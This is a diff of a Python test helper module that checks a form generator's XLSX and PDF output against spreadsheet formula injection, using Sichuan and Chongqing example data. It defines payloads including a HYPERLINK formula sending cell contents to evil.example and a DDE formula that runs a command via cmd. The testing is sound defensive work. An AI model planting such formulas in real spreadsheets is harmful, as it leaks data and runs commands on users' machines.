@@ -7,17 +7,25 @@ bureau's table. Every XLSX formgen writes is checked with these: its sheets' XML
 
 from __future__ import annotations
 
+import copy
 import re
 import zipfile
 from pathlib import Path
 from typing import Any
 
 from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from tests.conftest import example_data
+from tests.reading import pdf_text, squeeze
+from tests.workflows.submitters import code
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 CALC = "=cmd|' /C calc'!A0"
 PAYLOADS = (HYPERLINK, CALC, "+1+2", "-3-4", "@SUM(A1:A9)", "\t=1+1", "\r=2+2")
 """The issue's two payloads and a value starting with each of ``+ - @``, a tab and a CR."""
+CITY = "sichuan-2023-110.city"
+DISTRICT = "chongqing-2023-1.district"
 
 
 def formulas(xlsx: Path) -> list[str]:
@@ -45,3 +53,50 @@ def assert_typed(xlsx: Path, expected: list[str]) -> None:
     strings = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s" and c.value]
     for text in expected:
         assert text in strings, f"{text!r} is not a text cell of {xlsx.name}"
+
+
+EXPECTED = tuple(p.strip() for p in PAYLOADS)
+"""The payloads as the model keeps them: a text field trims white space at its ends, so the
+tab and CR cases arrive as ``=1+1`` and ``=2+2`` — still what a spreadsheet would evaluate."""
+
+
+def city(count: int = len(PAYLOADS)) -> dict[str, Any]:
+    """The Sichuan city's example with the first `count` payloads as its providers' and enterprises'
+    unit names, and the second provider's 服务能力自评 starting with `CALC`."""
+    data = example_data(CITY)
+    provider, enterprise = data["providers"][0], data["enterprises"][0]
+    data["providers"], data["enterprises"] = [], []
+    for n, payload in enumerate(PAYLOADS[:count]):
+        one = copy.deepcopy(provider)
+        one["profile"].update(unit_name=payload, credit_code=code(n))
+        data["providers"].append(one)
+        other = copy.deepcopy(enterprise)
+        other.update(unit_name=payload, credit_code=code(100 + n))
+        data["enterprises"].append(other)
+    if count > 1:
+        data["providers"][1]["self_assessment"] = f"{CALC}。{provider['self_assessment']}"
+    return data
+
+
+def district(count: int = len(PAYLOADS)) -> dict[str, Any]:
+    """The Chongqing district's example with the first `count` payloads as its applicants' unit names."""
+    data = example_data(DISTRICT)
+    applicant = data["applicants"][0]
+    data["applicants"] = []
+    for n, payload in enumerate(PAYLOADS[:count]):
+        one = copy.deepcopy(applicant)
+        one["unit"].update(unit_name=payload, code=code(200 + n))
+        data["applicants"].append(one)
+    return data
+
+
+def assert_prints_as_typed(pdf: Path, expected: list[str]) -> None:
+    """The PDF prints each of `expected` as text and links nowhere (no ``/URI`` annotation)."""
+    printed = squeeze(pdf_text(pdf))
+    for text in expected:
+        assert squeeze(text) in printed, f"{text!r} is not printed in {pdf.name}"
+    assert "Err:" not in printed and "#NAME?" not in printed
+    for page in PdfReader(pdf).pages:
+        for annotation in page.get("/Annots") or []:
+            action = annotation.get_object().get("/A") or {}
+            assert "/URI" not in action, f"{pdf.name} links to {action.get('/URI')}"
